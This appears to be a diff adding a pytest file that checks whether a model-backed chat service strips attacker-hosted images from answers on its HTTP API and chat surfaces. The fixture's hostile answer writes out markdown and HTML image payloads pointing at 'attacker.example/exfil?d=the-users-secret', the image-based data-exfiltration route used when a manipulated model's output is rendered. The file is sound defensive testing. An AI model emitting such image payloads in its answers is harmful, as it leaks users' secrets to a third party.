@@ -1,0 +1,90 @@
+"""A hostile controller writes answers that would make the user's client load attacker URLs; each
+surface shows the user no such image (the HTTP API) or no preview of such a link (Discord, Slack)."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import aiohttp
+import pytest
+from markdown_it import MarkdownIt
+
+from tests.fixtures.server.harness import KEY, Served
+
+LEAK = "https://attacker.example/exfil?d=the-users-secret"
+
+
+def hostile(own: str) -> str:
+    return (f"Done! Here is your picture ![cat]({own}/v1/files/file-1-image-1) and "
+            f"![pixel]({LEAK}) plus <img src=\"https://attacker.example/i.png\">.\n\n"
+            f"See [the source]({LEAK}).\n\n![ref][r]\n\n[r]: https://attacker.example/ref.png\n\n"
+            "`![kept](https://attacker.example/in-code)`")
+
+
+class HTMLImages(HTMLParser):
+    """The ``<img>`` tags of an HTML page, as a browser's parser finds them."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[dict[str, str | None]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag == "img":
+            self.found.append(dict(attrs))
+
+    @classmethod
+    def of(cls, html: str) -> list[dict[str, str | None]]:
+        parser = cls()
+        parser.feed(html)
+        return parser.found
+
+
+def script_for(sandbox, answer: str) -> None:
+    sandbox.controller.script[:] = [{"content": "[]"}, {"content": answer}]  # no tasks, then the answer
+
+
+@pytest.fixture
+async def served(sandbox, tmp_path):
+    s = await Served(sandbox, tmp_path / "data", {"api_keys": [KEY]}).start()
+    yield s
+    await s.close()
+
+
+def shown_images(markdown: str) -> list[str]:
+    """The image URLs a chat UI rendering ``markdown`` (CommonMark with raw HTML) would load."""
+    html = MarkdownIt("commonmark").render(markdown)
+    return [img["src"] for img in HTMLImages.of(html)]
+
+
+def assert_no_foreign_image(content: str, own: str) -> None:
+    assert shown_images(content) == [f"{own}/v1/files/file-1-image-1"]  # only our own file renders
+    assert f"[image: pixel (attacker.example)](<{LEAK}>)" in content  # a plain link naming the host
+    assert "`![kept](https://attacker.example/in-code)`" in content  # code is left as written
+
+
+@pytest.mark.parametrize("stream", [False, True])
+async def test_http_answer_keeps_only_our_own_images(served, sandbox, stream):
+    script_for(sandbox, hostile(served.url))
+    client = served.client()
+    if stream:
+        chunks = [c async for c in await client.chat.completions.create(
+            model="hugginggpt", stream=True, messages=[{"role": "user", "content": "Say hello"}])]
+        content = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
+    else:
+        reply = await client.chat.completions.create(model="hugginggpt", messages=[{"role": "user", "content": "Say hello"}])
+        content = reply.choices[0].message.content
+    assert len(sandbox.controller.requests) == 2
+    assert_no_foreign_image(content, served.url)
+
+
+async def test_http_external_images_drop(sandbox, tmp_path):
+    s = await Served(sandbox, tmp_path / "data", {"api_keys": [KEY], "external_images": "drop"}).start()
+    try:
+        script_for(sandbox, hostile(s.url))
+        async with aiohttp.ClientSession(headers={"Authorization": f"Bearer {KEY}"}) as http:
+            async with http.post(s.url + "/hugginggpt", json={"messages": [{"role": "user", "content": "Say hello"}]}) as r:
+                message = (await r.json())["message"]
+        assert "exfil" not in message.split("See [the source]")[0]  # the image's URL is gone, not linked
+        assert "*(pixel: an image from attacker.example, not shown)*" in message
+    finally:
+        await s.close()
